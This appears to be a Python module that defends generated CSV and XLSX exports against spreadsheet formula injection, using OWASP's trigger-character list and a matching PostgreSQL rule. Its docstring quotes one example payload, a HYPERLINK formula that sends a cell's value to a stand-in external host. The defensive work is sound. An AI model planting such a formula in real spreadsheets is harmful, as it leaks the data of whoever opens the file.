"""Values as spreadsheet cells: data, never formulas. The one place text is encoded for a sink.

Generated files (reports, an import's errors.csv) carry text that members typed: a customer
named `=HYPERLINK("https://x.example/?"&B2,"Open")` is imported as it is. A spreadsheet
program runs such text when it reads it as a formula, so every writer of a CSV or XLSX file
turns its values into cells here:

- XLSX (`xlsx_cell`): text is always a string cell. openpyxl reads any string starting with `=`
  as a formula (and `#N/A` and the like as error values), so the cell's type is set to string
  after the value, and the text is stored exactly as it is.
- CSV (`CsvCells`): a CSV has no types, so text that starts with a character a spreadsheet takes
  as the start of a formula (OWASP's list: `=`, `+`, `-`, `@`, tab, carriage return) is prefixed
  with a single quote, which the spreadsheet shows as text and does not run. Quoting is the csv
  module's; lines end in CRLF (RFC 4180) because Python 3.11's writer quotes only the line
  ending's own characters: with LF lines, a field holding a bare carriage return would be
  written unquoted and split the row in every reader.

Numbers (ints, Decimals) are numbers in both sinks: a negative amount is data, not a formula.

A CSV that PostgreSQL writes itself (`COPY (...) TO STDOUT (FORMAT csv)`, erp.core.pg_copy)
gets the same bytes: `csv_text_sql` is the formula rule as an SQL expression, built from the
same `FORMULA_TRIGGERS`, and `CrlfRecords` turns the server's LF record ends into CRLF. Both
quote the same way (a field holding a comma, a double quote, CR or LF is quoted, its quotes
doubled); the one difference, an empty text that PostgreSQL quotes to tell it from NULL, is
removed by writing empty text as NULL, which both write as nothing.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any, TextIO

from sqlalchemy import ColumnElement, String, case, func, literal

# Characters that make a spreadsheet read a CSV cell as a formula (OWASP, "CSV Injection").
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
CellValue = str | int | Decimal | None


def csv_cell(value: CellValue) -> str | int | Decimal | None:
    """`value` for csv.writer: text that would start a formula gets a leading single quote."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def csv_row(values: Sequence[CellValue]) -> list[str | int | Decimal | None]:
    return [csv_cell(value) for value in values]


class CsvCells:
    """A csv writer whose every text cell goes through `csv_cell`."""

    def __init__(self, stream: TextIO) -> None:
        self._writer = csv.writer(stream, lineterminator="\r\n")

    def writerow(self, values: Sequence[CellValue]) -> None:
        self._writer.writerow(csv_row(values))

    def writerows(self, rows: Iterable[Sequence[CellValue]]) -> None:
        self._writer.writerows(csv_row(values) for values in rows)


def csv_text_sql(text: ColumnElement[Any]) -> ColumnElement[str]:
    """`csv_cell` of a text column as SQL, for PostgreSQL's own CSV writer (see the docstring)."""
    return case(
        (func.left(text, 1).in_(FORMULA_TRIGGERS), literal("'", String) + text),
        else_=func.nullif(text, ""),
    )


class CrlfRecords:
    """PostgreSQL's CSV output with CRLF record ends, as `CsvCells` writes them, counting records.

    COPY ends each record with LF. A line feed inside a quoted field is data and stays as it
    is, so a line feed ends a record only where the quotes before it are balanced; the state
    carries over from one piece to the next, wherever the pieces were cut.
    """

    def __init__(self) -> None:
        self.records = 0
        self._in_quotes = False

    def convert(self, piece: bytes) -> bytes:
        if not self._in_quotes and b'"' not in piece:
            self.records += piece.count(b"\n")  # no quoted field: every line feed ends a record
            return piece.replace(b"\n", b"\r\n")
        lines = piece.split(b"\n")
        out = []
        for line in lines[:-1]:
            if line.count(b'"') % 2:
                self._in_quotes = not self._in_quotes
            if self._in_quotes:
                out.append(line + b"\n")
            else:
                out.append(line + b"\r\n")
                self.records += 1
        if lines[-1].count(b'"') % 2:
            self._in_quotes = not self._in_quotes
        out.append(lines[-1])
        return b"".join(out)


def xlsx_cell(sheet: Any, value: CellValue, number_format: str | None = None) -> Any:
    """An openpyxl `WriteOnlyCell` of `sheet` (write-only mode): text always a string cell."""
    from openpyxl.cell import WriteOnlyCell  # imported on use: only XLSX writers pay for it

    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        # After the value: openpyxl has just typed `=...` as a formula ("f"), `#N/A` as an error.
        cell.data_type = "s"
    if number_format is not None:
        cell.number_format = number_format
    return cell


def xlsx_row(sheet: Any, values: Sequence[CellValue]) -> list[Any]:
    return [xlsx_cell(sheet, value) for value in values]
